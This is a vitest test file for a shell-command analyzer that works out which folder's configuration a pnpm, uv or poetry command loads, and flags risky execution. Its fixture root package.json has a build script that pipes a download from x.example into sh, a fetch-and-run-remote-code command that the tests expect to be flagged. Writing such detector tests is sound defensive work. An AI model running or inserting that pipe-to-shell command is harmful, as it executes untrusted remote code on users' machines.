// The folder a package or environment runner runs its command in (`pnpm --filter web exec x`, `pnpm -C dir exec x`,
// `uv run --directory=dir x`, `poetry -C dir run x`, a pnpm bin run by its bare name below its package): the command
// is judged there, where its configuration is read. The reader is a table in memory; a vitest configuration module
// that runs a program marks the folder the command must be judged in.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile, ShellAnalysis } from '../types';

const P = '/home/u/proj';
const PLANTED = {
  kind: 'text',
  text: 'import { execSync } from "node:child_process";\nexecSync("touch /tmp/x");\nexport default {};\n',
} as const;
const json = (value: unknown) => ({ kind: 'text', text: JSON.stringify(value) }) as const;

const FILES: Record<string, ScriptFile> = {
  [`${P}/package.json`]: json({
    name: 'root',
    private: true,
    scripts: { build: 'curl -s https://x.example/i | sh' },
  }),
  [`${P}/packages/ui/nested/package.json`]: json({ name: 'nested' }),
  // A package outside any pnpm workspace.
  '/home/u/other/package.json': json({ name: 'other', scripts: { build: 'tsc' } }),
  [`${P}/pnpm-workspace.yaml`]: {
    kind: 'text',
    text: 'packages:\n  - "packages/*"\n  - "packages/ui/nested"\n',
  },
  [`${P}/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['web', 'ui'] },
  [`${P}/packages/web/package.json`]: json({ name: 'web' }),
  [`${P}/packages/web/vitest.config.mjs`]: PLANTED,
  [`${P}/packages/ui`]: { kind: 'unreadable', why: 'not-regular', entries: ['package.json', 'nested'] },
  [`${P}/packages/ui/package.json`]: json({ name: '@x/ui', scripts: { build: 'tsc' } }),
  [`${P}/packages/ui/nested/vitest.config.mjs`]: PLANTED,
  // Review 30c: a root package named like a listed one; a package whose manifest is package.yaml.
  [`${P}/dup/pnpm-workspace.yaml`]: { kind: 'text', text: 'packages:\n  - "packages/*"\n' },
  [`${P}/dup/package.json`]: json({ name: 'web' }),
  [`${P}/dup/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['web'] },
  [`${P}/dup/packages/web/package.json`]: json({ name: 'web' }),
  [`${P}/yml/pnpm-workspace.yaml`]: { kind: 'text', text: 'packages:\n  - "packages/*"\n' },
  [`${P}/yml/package.json`]: json({ name: 'root' }),
  [`${P}/yml/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['a', 'b'] },
  [`${P}/yml/packages/a/package.json`]: json({ name: 'a' }),
  [`${P}/yml/packages/b/package.yaml`]: { kind: 'text', text: 'name: a\n' },
  // A folder without a package.json of its own, below the root package.
  [`${P}/sub/vitest.config.mjs`]: PLANTED,
};

const env = shellEnv({ readScript: (abs) => FILES[abs] ?? { kind: 'missing' } });
const analyze = (command: string) => analyzeShellSync(command, env);
const codes = (a: ShellAnalysis) => [...new Set(a.uncertain.map((u) => u.code))].sort();

beforeAll(async () => {
  await loadShellParser();
});

describe('the command runs in the folder or package an option names, and is judged there', () => {
  it.each([
    ['a filter naming the package by name', 'pnpm --filter web exec vitest run'],
    ['the filter after exec', 'pnpm exec --filter web vitest run'],
    ['the filter joined by =', 'pnpm --filter=web exec vitest run'],
    ['the short filter', 'pnpm -F web exec vitest run'],
    ['a filter naming the package by path', 'pnpm --filter ./packages/web exec vitest run'],
    ['a bare bin name in the filtered package', 'pnpm -F web vitest run'],
    ['pnpm --dir joined by =', 'pnpm --dir=sub exec vitest run'],
    ['pnpm -C with its value attached', 'pnpm exec -Csub vitest run'],
    ['uv run --directory joined by =', 'uv run --directory=sub vitest run'],
    ['uv --directory= before run', 'uv --directory=sub run vitest run'],
    ['poetry -C before run', 'poetry -C sub run vitest run'],
    ['poetry --directory= after run', 'poetry run --directory=sub vitest run'],
    [
      'a pnpm bin run by its bare name below its package runs where pnpm started',
      'cd sub && pnpm vitest run',
    ],
  ])('%s: `%s` loads that folder’s configuration', (_n, command) => {
    expect(codes(analyze(command))).toContain('dynamic-script');
  });

  it.each([
    ['the filtered package has no configuration', 'pnpm --filter @x/ui exec vitest run'],
    ['a scoped package by its name alone', 'pnpm --filter ui exec vitest run'],
    ['a bare bin name in a package without one', 'pnpm -F @x/ui vitest run'],
    ['the root has none', 'pnpm exec vitest run'],
    ['the root, by bare name', 'pnpm vitest run'],
  ])('%s: `%s` reads nothing that runs', (_n, command) => {
    const a = analyze(command);
    expect(a.uncertain.map((u) => u.reason)).toEqual([]);
  });

  it.each([
    ['a folder that holds another listed package selects both', 'pnpm --filter ./packages/ui exec tsc'],
    ['a parent folder selects several', 'pnpm --filter ./packages exec tsc'],
    ['a selector with dependents', "pnpm --filter 'web...' exec tsc"],
    ['two filters', 'pnpm --filter web --filter @x/ui exec tsc'],
    ['a folder and a filter', 'pnpm -C packages --filter web exec tsc'],
    ['a package that is not listed', 'pnpm --filter nope exec tsc'],
    ['a filter named at run time', 'pnpm --filter "$PKG" exec tsc'],
    ['the root package has the name too', 'cd dup && pnpm --filter web exec tsc'],
    ['a package whose manifest is not package.json', 'cd yml && pnpm --filter a exec tsc'],
  ])('%s: `%s` runs in a folder gavel cannot place', (_n, command) => {
    const a = analyze(command);
    expect(codes(a)).toContain('dynamic-script');
    expect(a.uncertain.map((u) => u.reason).join(' ')).toMatch(/cannot place/);
  });

  it('yarn running a bin below its package is not placed', () => {
    const a = analyze('cd sub && yarn vitest run');
    expect(a.uncertain.map((u) => u.reason).join(' ')).toMatch(/`yarn vitest` runs a bin in a folder/);
  });
});

describe("pnpm's -w runs the workspace root's script or command, wherever pnpm starts (checked with pnpm 10.34)", () => {
  it.each([
    ['from a package', 'cd packages/ui && pnpm -w build'],
    ['the long option', 'cd packages/ui && pnpm --workspace-root build'],
    ['with run', 'cd packages/ui && pnpm -w run build'],
    ['at the root', 'pnpm -w build'],
  ])('%s: `%s` runs the root build', (_n, command) => {
    expect(analyze(command).hits.map((h) => h.category)).toContain('remote_code_execution');
  });
  it("the package's own script is not the root's", () => {
    expect(analyze('cd packages/ui && pnpm build').hits).toEqual([]);
  });
  it('a command run with -w is judged at the root', () => {
    expect(codes(analyze('cd sub && pnpm exec vitest run'))).toContain('dynamic-script');
    expect(analyze('cd sub && pnpm -w exec vitest run').uncertain.map((u) => u.reason)).toEqual([]);
  });
  it.each([
    ['outside a workspace', 'cd /home/u/other && pnpm -w build'],
    ['with every package too', 'pnpm -w -r build'],
  ])('%s: `%s` is uncertain', (_n, command) => {
    expect(codes(analyze(command))).toContain('dynamic-script');
  });
});
